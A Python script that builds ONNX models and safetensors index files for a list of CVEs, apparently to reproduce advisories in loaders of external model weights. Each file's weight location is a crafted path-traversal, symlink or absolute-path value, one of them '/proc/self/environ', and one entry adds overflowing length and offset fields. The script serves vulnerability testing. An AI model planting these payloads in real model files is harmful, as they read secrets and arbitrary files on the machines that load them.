#!/usr/bin/env python3
"""Usage: models.py FOLDER
Writes the models of the advisories in run.sh: NAME.onnx multiplies by a weight that lies in a file
of its own, which the advisory's kind of location names; NAME/ holds a config.json whose index of
weight files names one the same way. Wire format and field numbers are those of onnx.proto."""
import json
import os
import sys


def varint(n):
    n &= (1 << 64) - 1
    out = b""
    while n >= 0x80:
        out += bytes([n & 0x7F | 0x80])
        n >>= 7
    return out + bytes([n])


def field(number, value):
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    data = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(data)) + data


def pair(key, value):
    return field(13, field(1, key) + field(2, value))


def model(external):
    """y = x W, W (4, 4) external with these key and value pairs."""
    weight = field(1, 4) + field(1, 4) + field(2, 1) + field(8, "W")
    weight += b"".join(pair(*p) for p in external) + field(14, 1)
    dim = field(1, field(1, 4))
    shape = field(1, field(1, 1) + field(2, dim + dim))
    node = field(1, "x") + field(1, "W") + field(2, "y") + field(3, "product") + field(4, "MatMul")
    graph = field(1, node) + field(2, "g") + field(5, weight)
    graph += field(11, field(1, "x") + field(2, shape)) + field(12, field(1, "y") + field(2, shape))
    return field(1, 8) + field(8, field(1, "") + field(2, 17)) + field(7, graph)


LOCATIONS = {
    "CVE-2022-25882": [("location", "../secret")],
    "CVE-2024-27318": [("location", "junk/../../secret")],
    "CVE-2025-51480": [("location", "../victim")],
    "CVE-2026-27489": [("location", "link")],
    "CVE-2026-34446": [("location", "hardlink")],
    "CVE-2026-34447": [("location", "folder/secret")],
    "CVE-2026-34445": [
        ("location", "weights"),
        ("length", str(1 << 63)),
        ("offset", "-1"),
        ("__class__", "object"),
        ("basepath", "/"),
    ],
    "absolute": [("location", "/proc/self/environ")],
}
CONFIG = {
    "model_type": "gpt2",
    "n_embd": 8,
    "n_head": 2,
    "n_layer": 1,
    "n_positions": 8,
    "vocab_size": 16,
}


def main(folder):
    for name, external in LOCATIONS.items():
        with open(os.path.join(folder, name + ".onnx"), "wb") as f:
            f.write(model(external))
        os.mkdir(os.path.join(folder, name))
        with open(os.path.join(folder, name, "config.json"), "w") as f:
            json.dump(CONFIG, f)
        index = {"metadata": {}, "weight_map": {"transformer.wte.weight": external[0][1]}}
        with open(os.path.join(folder, name, "model.safetensors.index.json"), "w") as f:
            json.dump(index, f)


main(sys.argv[1])
